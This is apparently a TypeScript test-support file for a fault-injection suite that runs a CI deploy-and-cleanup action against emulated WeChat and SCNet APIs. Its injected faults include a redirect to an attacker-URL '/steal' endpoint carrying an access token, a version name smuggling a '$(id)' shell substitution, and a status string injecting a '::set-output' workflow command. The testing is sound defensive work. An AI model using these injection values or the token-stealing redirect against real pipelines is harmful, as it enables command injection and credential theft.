// The seeded fault-injection suite's parts: a tiny PRNG, the scenario generator, the setup of the
// emulator per operation, and the invariants checked after each run from the emulator's state, the
// outputs and the exit code. test/process/fault-injection.test.ts runs them.

import type { Fault } from '../../emulator/faults.ts';
import type { EmulatorReply } from '../../emulator/http.ts';
import type { Emulator } from '../../emulator/server.ts';
import { EMULATOR_AI_USER } from '../../emulator/ai.ts';
import { EMULATOR_COMPONENT } from '../../emulator/wechat.ts';
import { everythingShown, type ActionRun } from '../../harness/run-action.ts';
import { SCNET_CODES } from '../../src/scnet/codes.ts';
import { SECRET_INPUTS } from '../../src/inputs/names.ts';
import { ERRCODES } from '../../src/wechat/errcodes.ts';

/** mulberry32: a 32-bit seeded PRNG, good enough to pick faults reproducibly. */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const ACCESS_TOKEN = 'tok_FAULTSUITE_secret_91c4e7';
/** Stands in an answer for a secret of the run, filled in once the run's credentials are known. */
export const SECRET_PLACEHOLDER = '%RUN_SECRET%';
export const IMAGE = 'ccr.ccs.tencentyun.com/shop/api:v9.9.9';
const ENV = 'prod-env-fault01';
const SERVICE = 'shop-api';
const TASK = '/ai/openapi/v2/instance-service/task';

export type Operation = 'deploy' | 'delete-versions' | 'clean-containers';
export const OPERATION_ORDER: readonly Operation[] = ['deploy', 'delete-versions', 'clean-containers'];

export type FaultKind =
  | 'errcode'
  | 'http-5xx'
  | 'http-429'
  | 'slow'
  | 'drop-before-body'
  | 'drop-before-answer'
  | 'drop-after-handling'
  | 'stall'
  | 'truncated-json'
  | 'malformed-json'
  | 'wrong-content-type'
  | 'redirect'
  | 'huge-body'
  | 'errcode-as-string'
  | 'missing-fields'
  | 'echoes-secret'
  | 'hostile-name';

const KINDS: readonly FaultKind[] = [
  'errcode',
  'errcode',
  'errcode',
  'http-5xx',
  'http-5xx',
  'http-429',
  'slow',
  'drop-before-body',
  'drop-before-answer',
  'drop-after-handling',
  'drop-after-handling',
  'stall',
  'truncated-json',
  'malformed-json',
  'wrong-content-type',
  'redirect',
  'huge-body',
  'errcode-as-string',
  'missing-fields',
  'echoes-secret',
  'hostile-name',
];

/** A fault with what the suite needs to know about it. */
export interface PlannedFault extends Fault {
  readonly kind: FaultKind;
  /** The documented errcode or code it answers with, for the coverage check. */
  readonly code?: string;
}

export interface Scenario {
  readonly index: number;
  readonly operation: Operation;
  /** How the operation is set up: which credentials, which selection. */
  readonly variant: string;
  readonly faults: readonly PlannedFault[];
  readonly debug: boolean;
  /** For delete-versions "names": which versions are named. */
  readonly named: readonly string[];
  /** For clean-containers: how the list moves while the run reads it (emulator knobs). */
  readonly moving: Moving;
}

/** Others create a container before every page; equal createTimes in another order each query; batches that delete part of themselves. */
export type Moving = 'still' | 'others-create' | 'shuffled-ties' | 'partial-batches';
const MOVING: readonly Moving[] = ['still', 'others-create', 'shuffled-ties', 'partial-batches'];

interface Endpoint {
  readonly match: string;
  readonly method?: string;
  readonly platform: 'wechat' | 'ai';
  /** How often faults land here, relative to the others. */
  readonly weight: number;
}

const wx = (match: string, weight: number): Endpoint => ({ match, platform: 'wechat', weight });
const ai = (match: string, weight: number, method?: string): Endpoint => ({ match, method, platform: 'ai', weight });

function endpoints(operation: Operation, variant: string): Endpoint[] {
  const token = variant.includes('component') ? [wx('/cgi-bin/component/api_component_token', 1)] : [];
  switch (operation) {
    case 'deploy':
      return [
        ...token,
        wx('getcsversionlist', 4),
        wx('rollupdatecloudbaserunserverversion', 2),
        wx('getcsversiondetail', 2),
        ...(variant.includes('create') ? [wx('establishcloudbaserunserver', 2)] : []),
        ...(variant.includes('traffic') ? [wx('setcspropotion', 2)] : []),
      ];
    case 'delete-versions':
      return [
        ...token,
        ...(variant.includes('services') ? [wx('getcslist', 2)] : []),
        wx('getcsversionlist', 2),
        wx('deletecloudbaserunserverversion', 6),
      ];
    case 'clean-containers':
      return [
        ...(variant === 'password' ? [ai('/ac/openapi/v2/tokens', 1), ai('/ac/openapi/v2/center', 1)] : []),
        ...(variant === 'access-key' ? [ai('/api/user/v3/tokens', 1), ai('/ac/openapi/v2/center', 1)] : []),
        ai(TASK, 2, 'GET'),
        ai(TASK, 6, 'DELETE'),
      ];
  }
}

const VARIANTS: Record<Operation, readonly string[]> = {
  deploy: ['token', 'component', 'token+traffic', 'token+create', 'component+create+traffic'],
  'delete-versions': ['token+pattern', 'token+names', 'component+pattern', 'component+names', 'token+services'],
  'clean-containers': ['token', 'password', 'access-key'],
};

const WECHAT_CODES = Object.keys(ERRCODES);
const AI_CODE_LIST = Object.keys(SCNET_CODES);

/** The scenarios of one seeded run: operations in turn, each with several faults on its endpoints. */
export function generateScenarios(seed: number, count: number, attackerUrl: string): Scenario[] {
  const random = mulberry32(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)];
  const cursor = { wechat: 0, ai: 0, status: 0 };
  const uncovered: Partial<Record<Operation, string[]>> = { 'delete-versions': [...WECHAT_CODES], 'clean-containers': [...AI_CODE_LIST] };
  const scenarios: Scenario[] = [];
  for (let index = 0; index < count; index++) {
    const operation = OPERATION_ORDER[index % OPERATION_ORDER.length];
    const variant = pick(VARIANTS[operation]);
    const places = endpoints(operation, variant);
    // Until every documented code was answered once, a run answers the next one to its deletes
    // (always reached, and failing only that batch), with its other faults there too.
    const covering = uncovered[operation]?.shift();
    const weighted = (covering ? places.slice(-1) : places).flatMap((e) => Array<Endpoint>(e.weight).fill(e));
    // A hostile name fails the list read, so the deletes (and the code to cover) would not be reached.
    const kinds = covering ? KINDS.filter((k) => k !== 'hostile-name') : KINDS;
    const faults = Array.from({ length: 3 + Math.floor(random() * 5) }, () => {
      const endpoint = pick(weighted);
      return makeFault(pick(kinds), endpoint, random, cursor, attackerUrl);
    });
    if (covering) faults.unshift(makeFault('errcode', places.at(-1)!, random, cursor, attackerUrl, covering));
    const named =
      operation === 'delete-versions' && variant.endsWith('names')
        ? [...OLD_VERSIONS.filter(() => random() < 0.6), ...(random() < 0.3 ? [pick(PROTECTED_VERSIONS)] : [])]
        : [];
    // Drawn apart from the faults, so the faults each seed draws stay what they were.
    const moving =
      operation === 'clean-containers' ? MOVING[Math.floor(mulberry32(seed ^ (index * 0x9e3779b1))() * MOVING.length)] : 'still';
    scenarios.push({ index, operation, variant, faults, debug: random() < 0.3, named: named.length ? named : [OLD_VERSIONS[0]], moving });
  }
  return scenarios;
}

function makeFault(
  kind: FaultKind,
  at: Endpoint,
  random: () => number,
  cursor: { wechat: number; ai: number; status: number },
  attackerUrl: string,
  errcode?: string,
): PlannedFault {
  const where = { match: at.match, ...(at.method ? { method: at.method } : {}) };
  const landed = random() < 0.5;
  const raw = (status: number, body: string, headers?: Record<string, string>): EmulatorReply => ({
    status,
    raw: body,
    ...(headers ? { headers } : {}),
  });
  const wechat = at.platform === 'wechat';
  switch (kind) {
    case 'errcode': {
      const code =
        errcode ?? (wechat ? WECHAT_CODES[cursor.wechat++ % WECHAT_CODES.length] : AI_CODE_LIST[cursor.ai++ % AI_CODE_LIST.length]);
      const json = wechat ? { errcode: Number(code), errmsg: 'injected errcode' } : { code, msg: 'injected code', data: null };
      return { kind, code, ...where, afterHandling: landed, reply: { status: 200, json } };
    }
    case 'http-5xx': {
      const status = [500, 502, 503, 504][cursor.status++ % 4];
      // Gateways often quote the request URL in their error page: with the token in it.
      const body = random() < 0.5 ? `upstream error for ${at.match}?access_token=${SECRET_PLACEHOLDER}` : '';
      return { kind, ...where, afterHandling: landed, reply: raw(status, body, { 'content-type': 'text/plain' }) };
    }
    case 'http-429':
      return { kind, ...where, reply: { status: 429, json: { errcode: -1, code: '429', msg: 'too many requests' } } };
    case 'slow':
      return { kind, ...where, delayMs: 1_300 };
    case 'drop-before-body':
      return { kind, ...where, dropBeforeBody: true };
    case 'drop-before-answer':
      return { kind, ...where, drop: true };
    case 'drop-after-handling':
      return { kind, ...where, drop: true, afterHandling: true };
    case 'stall':
      return { kind, ...where, stallAfterBytes: 7 };
    case 'truncated-json':
      return {
        kind,
        ...where,
        afterHandling: landed,
        reply: raw(200, wechat ? '{"errcode":0,"errmsg":"ok","ite' : '{"code":"0","msg":"success","da'),
      };
    case 'malformed-json':
      return { kind, ...where, afterHandling: landed, reply: raw(200, "{errcode: 0, 'not': json}") };
    case 'wrong-content-type':
      return {
        kind,
        ...where,
        afterHandling: landed,
        reply: raw(200, '<html><body><h1>502 Bad Gateway</h1></body></html>', { 'content-type': 'text/html' }),
      };
    case 'redirect': {
      const status = [301, 302, 307, 308][cursor.status++ % 4];
      return {
        kind,
        ...where,
        afterHandling: landed,
        reply: raw(status, '', { location: `${attackerUrl}/steal?access_token=${ACCESS_TOKEN}` }),
      };
    }
    case 'huge-body':
      return { kind, ...where, afterHandling: landed, reply: raw(200, `{"errcode":0,"pad":"${'x'.repeat(9 * 1024 * 1024)}"}`) };
    case 'errcode-as-string':
      return {
        kind,
        ...where,
        afterHandling: landed,
        reply: {
          status: 200,
          json: wechat
            ? { errcode: random() < 0.5 ? '40097' : 'busy', errmsg: 'errcode sent as a string' }
            : { code: 10001, msg: 'code sent as a number' },
        },
      };
    case 'missing-fields':
      // Without the field that says how the call went (an answer with code "0" is a success, whatever else it lacks).
      return { kind, ...where, afterHandling: landed, reply: { status: 200, json: wechat ? {} : { msg: 'success', data: null } } };
    case 'hostile-name':
      // A list answer with a name or status no platform writes: it never becomes an output. A
      // version so named fails the step; a service so named is left alone, beside the real ones.
      // Always on one of the platform's lists, the answers that carry names.
      if (at.match === 'getcslist') {
        const cslist = [HOSTILE_VERSION, ...PRUNED_SERVICES, KEPT_SERVICE].map((server_name) => ({ server_name }));
        return { kind, match: 'getcslist', reply: { status: 200, json: { errcode: 0, errmsg: 'ok', total: cslist.length, cslist } } };
      }
      return wechat
        ? {
            kind,
            match: 'getcsversionlist',
            reply: {
              status: 200,
              json: {
                errcode: 0,
                errmsg: 'ok',
                total: 1,
                items: [{ version_name: HOSTILE_VERSION, flow_ratio: 0, created_time: '2020-12-08 20:56:10' }],
              },
            },
          }
        : {
            kind,
            match: TASK,
            method: 'GET',
            reply: {
              status: 200,
              json: {
                code: '0',
                msg: 'success',
                data: { total: 1, records: [{ id: 'c0ffee', instanceServiceName: 'x', status: HOSTILE_STATUS }] },
              },
            },
          };
    case 'echoes-secret':
      return {
        kind,
        ...where,
        reply: {
          status: 200,
          json: wechat
            ? { errcode: 40014, errmsg: `invalid access_token ${SECRET_PLACEHOLDER}` }
            : { code: '10009', msg: `token rejected: ${SECRET_PLACEHOLDER}` },
        },
      };
  }
}

// --- Setup per operation ---------------------------------------------------------------------

/** Platform text that must never reach an output: a shell substitution and a workflow command. */
const HOSTILE_VERSION = 'shop-api-002$(id)';
const HOSTILE_STATUS = 'Terminated\n::set-output name=deleted_count::99';
/** A secret in env_vars (deploy), which the run must mask like its secret inputs. */
const ENV_SECRET = 'db-pass_FAULTSUITE_4d1e';

const DAY = 86_400_000;
/** The services variant: service_name 'shop-*, !shop-keep' over these; shop-keep must stay whole. */
const PRUNED_SERVICES = [SERVICE, 'shop-web'];
const KEPT_SERVICE = 'shop-keep';
const OLD_VERSIONS = ['old-001', 'old-002', 'old-003', 'old-004', 'old-005', 'old-006'];
const PROTECTED_VERSIONS = ['old-900', 'old-901', 'current'];

/** What a scenario may and must change. */
export interface Expectation {
  /** Resources the run may delete. */
  readonly selected: ReadonlySet<string>;
  /** Resources that must never be deleted. */
  readonly protectedNames: ReadonlySet<string>;
  /** Named by the user although protected: must be reported as failed. */
  readonly refused: ReadonlySet<string>;
  readonly before: ReadonlySet<string>;
}

/** Seeds the emulator for the scenario; returns the action's inputs and what may change. */
export function setUp(emu: Emulator, scenario: Scenario): { inputs: Record<string, string>; expect: Expectation } {
  const network = { request_timeout: '1s', retry_budget: '3s' };
  const wechatCredentials: Record<string, string> = scenario.variant.includes('component')
    ? { ...EMULATOR_COMPONENT }
    : { access_token: ACCESS_TOKEN };
  emu.wechat.tokens.add(ACCESS_TOKEN);
  switch (scenario.operation) {
    case 'deploy': {
      const creating = scenario.variant.includes('create');
      emu.wechat.rollout = { buildPolls: 1, deployPolls: 1, outcome: 'ok' };
      const service = emu.wechat.addService(ENV, SERVICE, [
        { version_name: 'shop-api-001', created_time: new Date(Date.now() - 2 * DAY), image_url: 'ccr.ccs.tencentyun.com/shop/api:v1' },
        {
          version_name: 'shop-api-002',
          created_time: new Date(Date.now() - DAY),
          image_url: 'ccr.ccs.tencentyun.com/shop/api:v2',
          flow_ratio: 100,
        },
      ]);
      const inputs: Record<string, string> = {
        operation: 'deploy',
        wechat_api_url: emu.url,
        ...wechatCredentials,
        ...network,
        env_id: ENV,
        service_name: creating ? 'fresh-svc' : SERVICE,
        create_service: String(creating),
        image: IMAGE,
        poll_interval: '20ms',
        timeout: '4s',
        env_vars: `DB_PASSWORD=${ENV_SECRET}\nDEBUG=1`,
        ...(scenario.variant.includes('traffic') ? { traffic: '100' } : {}),
      };
      // A rollout of shop-api replaces shop-api-002; shop-api-001 must survive whatever happens.
      const before = new Set(service.versions.map((v) => v.version_name));
      return {
        inputs,
        expect: {
          selected: new Set(creating ? [] : ['shop-api-002']),
          protectedNames: new Set(['shop-api-001']),
          refused: new Set(),
          before,
        },
      };
    }
    case 'delete-versions': {
      const versions = [
        { version_name: 'keep-001', days: 60 },
        ...OLD_VERSIONS.map((version_name, i) => ({ version_name, days: 50 - i * 5 })),
        { version_name: 'old-900', days: 15, flow_ratio: 30 },
        { version_name: 'old-901', days: 12, status: 'building' },
        { version_name: 'keep-002', days: 5 },
        { version_name: 'current', days: 1, flow_ratio: 70 },
      ];
      const across = scenario.variant.includes('services');
      const services = across ? [...PRUNED_SERVICES, KEPT_SERVICE] : [SERVICE];
      for (const service of services)
        emu.wechat.addService(
          ENV,
          service,
          versions.map(({ days, ...v }) => ({ ...v, created_time: new Date(Date.now() - days * DAY) })),
        );
      const byNames = scenario.variant.endsWith('names');
      const selection: Record<string, string> = byNames
        ? { versions: scenario.named.join('\n') }
        : { version_pattern: 'old-*', older_than: '1d' };
      const selected = byNames ? scenario.named.filter((n) => OLD_VERSIONS.includes(n)) : OLD_VERSIONS;
      // Across services, the outputs and remaining() name versions service/version.
      const named = (names: readonly string[], of = PRUNED_SERVICES) =>
        across ? of.flatMap((svc) => names.map((n) => `${svc}/${n}`)) : names;
      const inputs = {
        operation: 'delete-versions',
        wechat_api_url: emu.url,
        ...wechatCredentials,
        ...network,
        env_id: ENV,
        service_name: across ? `shop-*, !${KEPT_SERVICE}` : SERVICE,
        ...selection,
      };
      const all = versions.map((v) => v.version_name);
      return {
        inputs,
        expect: {
          selected: new Set(named(selected)),
          protectedNames: new Set([...named(PROTECTED_VERSIONS), ...(across ? named(all, [KEPT_SERVICE]) : [])]),
          refused: new Set(scenario.named.filter((n) => byNames && PROTECTED_VERSIONS.includes(n))),
          before: new Set(named(all, services)),
        },
      };
    }
    case 'clean-containers': {
      // Three pages of list: faults land on pages read while earlier ones are being deleted.
      const tied = scenario.moving === 'shuffled-ties' ? { createTime: new Date(Date.now() - 3 * DAY) } : {};
      const finished = emu.ai.addContainers(250, { status: 'Terminated', instanceServiceName: 'nightly-train', ...tied });
      const running = emu.ai.addContainers(3, { status: 'Running', instanceServiceName: 'nightly-serve' });
      const others = emu.ai.addContainers(3, { status: 'Completed', instanceServiceName: 'keep-notebook' });
      const explicit = others.slice(0, 2).map((c) => c.id);
      if (scenario.moving === 'others-create') emu.ai.others = { after: 1, every: true, create: 1 };
      emu.ai.shuffleTies = scenario.moving === 'shuffled-ties';
      if (scenario.moving === 'partial-batches') emu.ai.batchDelete = 'partial';
      const credentials: Record<string, string> =
        scenario.variant === 'token'
          ? { ai_api_url: emu.url, ai_token: emu.ai.issueToken() }
          : scenario.variant === 'password'
            ? {
                ac_api_url: emu.url,
                ai_user: EMULATOR_AI_USER.ai_user,
                ai_password: EMULATOR_AI_USER.ai_password,
                ai_org_id: EMULATOR_AI_USER.ai_org_id,
              }
            : {
                ac_api_url: emu.url,
                scnet_api_url: emu.url,
                ai_user: EMULATOR_AI_USER.ai_user,
                ai_access_key: EMULATOR_AI_USER.ai_access_key,
                ai_secret_key: EMULATOR_AI_USER.ai_secret_key,
              };
      const inputs = {
        operation: 'clean-containers',
        ...credentials,
        ...network,
        container_ids: explicit.join('\n'),
        container_status: 'Terminated',
        container_name_pattern: 'nightly-*',
        batch_size: '25',
        concurrency: '3',
      };
      return {
        inputs,
        expect: {
          selected: new Set([...finished.map((c) => c.id), ...explicit]),
          protectedNames: new Set(running.map((c) => c.id)),
          refused: new Set(),
          before: new Set(emu.ai.containers.keys()),
        },
      };
    }
  }
}

// --- Invariants ------------------------------------------------------------------------------

export interface Verdict {
  readonly wronglyDeleted: string[];
  readonly protectedDeleted: string[];
  /** Selected resources neither deleted nor reported failed; claims that disagree with the state. */
  readonly unreported: string[];
  readonly leaks: string[];
  readonly crashes: string[];
}

/** The seeded resources that exist now: containers by ID, or the versions of the seeded services (service/version across services). */
export function remaining(emu: Emulator, scenario: Scenario): Set<string> {
  if (scenario.operation === 'clean-containers') return new Set(emu.ai.containers.keys());
  if (!scenario.variant.includes('services')) return new Set(emu.wechat.service(ENV, SERVICE)?.versions.map((v) => v.version_name) ?? []);
  return new Set(
    [...PRUNED_SERVICES, KEPT_SERVICE].flatMap(
      (svc) => emu.wechat.service(ENV, svc)?.versions.map((v) => `${svc}/${v.version_name}`) ?? [],
    ),
  );
}

/** Every secret of a run: its secret inputs and env_vars values, and the tokens the emulator issued to it. */
export function secretsOf(emu: Emulator, inputs: Record<string, string>): string[] {
  const given = [...SECRET_INPUTS.map((name) => inputs[name] ?? ''), ...(inputs.env_vars ? [ENV_SECRET] : [])].filter(Boolean);
  return [...given, ...[...emu.wechat.tokens].filter((t) => t !== ACCESS_TOKEN), ...emu.ai.tokens.keys()];
}

/** The faults of a scenario with the run's own secret where an answer echoes one. */
export function withRunSecret(faults: readonly PlannedFault[], inputs: Record<string, string>): PlannedFault[] {
  const secret = SECRET_INPUTS.map((name) => inputs[name]).find(Boolean) ?? '';
  return faults.map((f) =>
    f.kind === 'echoes-secret' || f.kind === 'http-5xx'
      ? (JSON.parse(JSON.stringify(f).replaceAll(SECRET_PLACEHOLDER, secret)) as PlannedFault)
      : f,
  );
}

export function judge(emu: Emulator, scenario: Scenario, inputs: Record<string, string>, expect: Expectation, run: ActionRun): Verdict {
  const verdict: Verdict = { wronglyDeleted: [], protectedDeleted: [], unreported: [], leaks: [], crashes: [] };
  const now = remaining(emu, scenario);
  const gone = [...expect.before].filter((name) => !now.has(name));
  verdict.protectedDeleted.push(...gone.filter((n) => expect.protectedNames.has(n)));
  verdict.wronglyDeleted.push(...gone.filter((n) => !expect.selected.has(n)));

  const shown = everythingShown(run);
  verdict.leaks.push(...secretsOf(emu, inputs).filter((secret) => shown.includes(secret)));
  const outputs = Object.values(run.outputs).join('\n');
  if (outputs.includes('$(') || outputs.includes('::')) verdict.leaks.push('platform text in another shape reached an output');
  const noise = `${run.stdout}\n${run.stderr}`;
  if (/^\s+at .+:\d+:\d+\)?$/m.test(noise)) verdict.crashes.push('a stack trace was shown');
  if (/unhandled/i.test(noise)) verdict.crashes.push('an unhandled error was shown');
  if (run.code !== 0 && run.code !== 1) verdict.crashes.push(`exit code ${run.code}`);
  if (run.code !== 0 && !/^::error::/m.test(run.stdout)) verdict.unreported.push('the step failed without an error annotation');

  // A cleanup that exits 0 said a final listing showed none of what it selected: the emulator agrees.
  const selectedLeft = [...expect.selected].filter((name) => now.has(name));
  if (scenario.operation === 'clean-containers' && run.code === 0 && selectedLeft.length)
    verdict.unreported.push(`exit 0 while ${selectedLeft.length} selected container(s) are still listed`);

  if (scenario.operation === 'deploy') judgeDeploy(emu, inputs, run, verdict);
  else judgeDeletion(scenario.operation, expect, run, gone, verdict);
  return verdict;
}

function judgeDeploy(emu: Emulator, inputs: Record<string, string>, run: ActionRun, verdict: Verdict): void {
  if (emu.wechat.runs.size > 1) verdict.unreported.push(`${emu.wechat.runs.size} rolling updates started for one deploy`);
  if (run.code !== 0) return;
  const version = emu.wechat.service(ENV, inputs.service_name)?.versions.find((v) => v.version_name === run.outputs.version_name);
  if (emu.wechat.runs.size !== 1 || !emu.wechat.runs.has(run.outputs.run_id ?? ''))
    verdict.unreported.push('success without the rolling update it reports');
  if (run.outputs.status !== 'normal' || version?.status !== 'normal' || version.image_url !== IMAGE) {
    verdict.unreported.push(
      `success, but version ${run.outputs.version_name} is ${version?.status ?? 'missing'} with ${version?.image_url ?? 'no image'}`,
    );
  }
}

function judgeDeletion(operation: Operation, expect: Expectation, run: ActionRun, gone: readonly string[], verdict: Verdict): void {
  const [deletedOutput, absentOutput, failedOutput] =
    operation === 'clean-containers'
      ? ['deleted_containers', 'absent_containers', 'failed_containers']
      : ['deleted_versions', 'absent_versions', 'failed_versions'];
  if (run.outputs[deletedOutput] === undefined) {
    verdict.unreported.push('no outputs');
    return;
  }
  // Already absent: gone after an attempt that got no answer, reported apart from the confirmed deletes.
  const claimed = new Set([
    ...(JSON.parse(run.outputs[deletedOutput]) as string[]),
    ...(JSON.parse(run.outputs[absentOutput]) as string[]),
  ]);
  const failed = new Set((JSON.parse(run.outputs[failedOutput]) as Record<string, string>[]).map((f) => f.id ?? f.version_name));
  // A service the run could not prune at all (its versions unread) is reported whole, by its not_pruned code.
  const unpruned = new Set(
    (JSON.parse(run.outputs.services ?? '[]') as { service_name: string; not_pruned: string }[])
      .filter((s) => s.not_pruned)
      .map((s) => s.service_name),
  );
  const reportedFailed = (name: string) => failed.has(name) || unpruned.has(name.split('/')[0]);
  if (!claimed.size && !failed.size && run.code === 1) {
    // The run stopped before deciding what to delete: then it must have deleted nothing.
    if (gone.length) verdict.unreported.push(`deleted ${gone.join(', ')} without reporting it`);
    return;
  }
  for (const name of claimed) if (!gone.includes(name)) verdict.unreported.push(`${name} reported deleted or absent but still there`);
  for (const name of gone) if (!claimed.has(name) && !failed.has(name)) verdict.unreported.push(`${name} deleted without being reported`);
  // clean-containers deletes while it lists: a run stopped before its final listing may not have
  // seen some of the selected containers, and says so in its error; so does one whose final
  // listing was not shown complete. Those it must have left alone (checked above).
  const unread =
    /^::error::((Stopped|Cancelled) after .*, (before the listing ended|before a final listing checked what is left|and the listing that checks what is left failed)|.*a selected container may remain unseen)/m.test(
      run.stdout,
    );
  if (unread) return;
  for (const name of [...expect.selected, ...expect.refused]) {
    if (!gone.includes(name) && !reportedFailed(name)) verdict.unreported.push(`${name} neither deleted nor reported failed`);
  }
  if ((run.code === 0) !== (failed.size + unpruned.size === 0))
    verdict.unreported.push(`exit code ${run.code} with ${failed.size} failures and ${unpruned.size} services not pruned reported`);
}
